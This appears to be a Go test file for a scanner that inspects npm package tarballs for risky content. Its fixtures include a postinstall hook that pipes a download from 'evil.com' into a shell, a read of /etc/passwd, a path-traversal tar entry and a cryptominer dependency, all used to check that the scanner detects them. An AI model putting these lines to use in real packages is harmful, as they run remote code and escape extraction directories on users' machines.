package scanner

import (
	"archive/tar"
	"compress/gzip"
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"
)

type fixtureFile struct {
	name string
	body string
	mode int64
}

// writeTarball builds an npm-style tarball with the conventional
// "package/" wrapper directory.
func writeTarball(t *testing.T, path string, files []fixtureFile) {
	t.Helper()

	f, err := os.Create(path)
	if err != nil {
		t.Fatalf("failed to create tarball: %v", err)
	}
	defer f.Close()

	gz := gzip.NewWriter(f)
	tw := tar.NewWriter(gz)

	for _, file := range files {
		mode := file.mode
		if mode == 0 {
			mode = 0o644
		}
		hdr := &tar.Header{
			Name: "package/" + file.name,
			Mode: mode,
			Size: int64(len(file.body)),
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatalf("failed to write header: %v", err)
		}
		if _, err := tw.Write([]byte(file.body)); err != nil {
			t.Fatalf("failed to write body: %v", err)
		}
	}

	if err := tw.Close(); err != nil {
		t.Fatalf("failed to close tar writer: %v", err)
	}
	if err := gz.Close(); err != nil {
		t.Fatalf("failed to close gzip writer: %v", err)
	}
}

func newTestScanner(t *testing.T) (*Scanner, string) {
	t.Helper()
	scratch := filepath.Join(t.TempDir(), "scratch")
	return New(scratch, 30*time.Second, nil), scratch
}

func countRisks(risks []Risk, typ RiskType) int {
	n := 0
	for _, r := range risks {
		if r.Type == typ {
			n++
		}
	}
	return n
}

func TestScan_SuspiciousPostinstallScript(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "package.json", body: `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl http://evil.com | sh"}}`},
	})

	res := s.Scan(context.Background(), archive, "evil")

	if got := countRisks(res.Risks, RiskSuspiciousScript); got != 1 {
		t.Fatalf("suspicious-script risks = %d, want 1", got)
	}
	for _, r := range res.Risks {
		if r.Type == RiskSuspiciousScript && r.Severity != SeverityHigh {
			t.Errorf("severity = %s, want high", r.Severity)
		}
	}
	if res.RiskScore < 60 {
		t.Errorf("risk score = %d, want >= 60", res.RiskScore)
	}
}

func TestScan_NetworkAndFilesystemPatterns(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "package.json", body: `{"name":"pkg","version":"1.0.0"}`},
		// Multiple network patterns in one file must still produce a
		// single network-access risk for that file.
		{name: "net.js", body: "fetch('http://x.example');\nconst xhr = new XMLHttpRequest();"},
		{name: "disk.js", body: "fs.writeFile('/tmp/x', data, cb);\nfs.readFile('/etc/passwd', cb);"},
	})

	res := s.Scan(context.Background(), archive, "pkg")

	if got := countRisks(res.Risks, RiskNetworkAccess); got != 1 {
		t.Errorf("network-access risks = %d, want 1", got)
	}
	if got := countRisks(res.Risks, RiskFilesystemAccess); got != 1 {
		t.Errorf("filesystem-access risks = %d, want 1", got)
	}
	for _, r := range res.Risks {
		switch r.Type {
		case RiskNetworkAccess:
			if r.Severity != SeverityMedium {
				t.Errorf("network severity = %s, want medium", r.Severity)
			}
		case RiskFilesystemAccess:
			if r.Severity != SeverityLow {
				t.Errorf("filesystem severity = %s, want low", r.Severity)
			}
		}
	}
}

func TestScan_CleanPackage(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "package.json", body: `{"name":"clean","version":"1.0.0","dependencies":{"left-pad":"^1.0.0"}}`},
		{name: "index.js", body: "module.exports = function add(a, b) { return a + b; };"},
		{name: "README.md", body: "# clean"},
	})

	res := s.Scan(context.Background(), archive, "clean")

	if len(res.Risks) != 0 {
		t.Fatalf("risks = %v, want none", res.Risks)
	}
	if res.RiskScore != 0 {
		t.Errorf("risk score = %d, want 0", res.RiskScore)
	}
}

func TestScan_ExecutableAndBlacklistedDependency(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "package.json", body: `{"name":"pkg","version":"1.0.0","devDependencies":{"fast-bitcoin-miner":"1.0.0"}}`},
		{name: "bin/helper.exe", body: "MZ..."},
		{name: "run.sh", body: "true\n", mode: 0o755},
	})

	res := s.Scan(context.Background(), archive, "pkg")

	if got := countRisks(res.Risks, RiskBinaryExecutable); got != 2 {
		t.Errorf("binary-executable risks = %d, want 2", got)
	}
	if got := countRisks(res.Risks, RiskSuspiciousDependency); got != 1 {
		t.Errorf("suspicious-dependency risks = %d, want 1", got)
	}
}

func TestScan_MissingManifest(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "index.js", body: "module.exports = 1;"},
	})

	res := s.Scan(context.Background(), archive, "pkg")

	if got := countRisks(res.Risks, RiskPackageJSONError); got != 1 {
		t.Fatalf("package-json-error risks = %d, want 1", got)
	}
}

func TestScan_UnreadableArchiveIsScanError(t *testing.T) {
	s, scratch := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "broken.tgz")
	if err := os.WriteFile(archive, []byte("this is not a gzip stream"), 0o644); err != nil {
		t.Fatalf("failed to write archive: %v", err)
	}

	res := s.Scan(context.Background(), archive, "broken")

	if len(res.Risks) != 1 || res.Risks[0].Type != RiskScanError {
		t.Fatalf("risks = %v, want exactly one scan-error", res.Risks)
	}
	if res.Risks[0].Severity != SeverityCritical {
		t.Errorf("severity = %s, want critical", res.Risks[0].Severity)
	}
	if res.RiskScore != 100 {
		t.Errorf("risk score = %d, want 100", res.RiskScore)
	}

	if _, err := os.Stat(filepath.Join(scratch, "broken")); !os.IsNotExist(err) {
		t.Errorf("scratch directory survived a failed scan")
	}
}

func TestScan_ScratchDirectoryRemoved(t *testing.T) {
	s, scratch := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")
	writeTarball(t, archive, []fixtureFile{
		{name: "package.json", body: `{"name":"@org/pkg","version":"1.0.0"}`},
	})

	s.Scan(context.Background(), archive, "@org/pkg")

	if _, err := os.Stat(filepath.Join(scratch, sanitizeName("@org/pkg"))); !os.IsNotExist(err) {
		t.Errorf("scratch directory survived a successful scan")
	}
}

func TestScan_PathTraversalEntryRejected(t *testing.T) {
	s, _ := newTestScanner(t)
	archive := filepath.Join(t.TempDir(), "pkg.tgz")

	f, err := os.Create(archive)
	if err != nil {
		t.Fatalf("failed to create tarball: %v", err)
	}
	gz := gzip.NewWriter(f)
	tw := tar.NewWriter(gz)
	body := "owned"
	if err := tw.WriteHeader(&tar.Header{
		Name: "package/../../escape.txt",
		Mode: 0o644,
		Size: int64(len(body)),
	}); err != nil {
		t.Fatalf("failed to write header: %v", err)
	}
	tw.Write([]byte(body))
	tw.Close()
	gz.Close()
	f.Close()

	res := s.Scan(context.Background(), archive, "pkg")

	if len(res.Risks) != 1 || res.Risks[0].Type != RiskScanError {
		t.Fatalf("risks = %v, want exactly one scan-error", res.Risks)
	}
	if res.RiskScore != 100 {
		t.Errorf("risk score = %d, want 100", res.RiskScore)
	}
}

func TestScore_Clamped(t *testing.T) {
	tests := []struct {
		name  string
		risks []Risk
		want  int
	}{
		{name: "empty", risks: nil, want: 0},
		{name: "one low", risks: []Risk{{Severity: SeverityLow}}, want: 10},
		{
			name:  "mixed",
			risks: []Risk{{Severity: SeverityLow}, {Severity: SeverityMedium}, {Severity: SeverityHigh}},
			want:  100,
		},
		{
			name: "many criticals clamp to 100",
			risks: []Risk{
				{Severity: SeverityCritical}, {Severity: SeverityCritical}, {Severity: SeverityCritical},
			},
			want: 100,
		},
		{
			name:  "order independent",
			risks: []Risk{{Severity: SeverityHigh}, {Severity: SeverityLow}},
			want:  70,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Score(tt.risks); got != tt.want {
				t.Errorf("Score() = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestSanitizeName(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"left-pad", "left_pad"},
		{"@org/pkg", "_org_pkg"},
		{"simple", "simple"},
	}
	for _, tt := range tests {
		if got := sanitizeName(tt.in); got != tt.want {
			t.Errorf("sanitizeName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
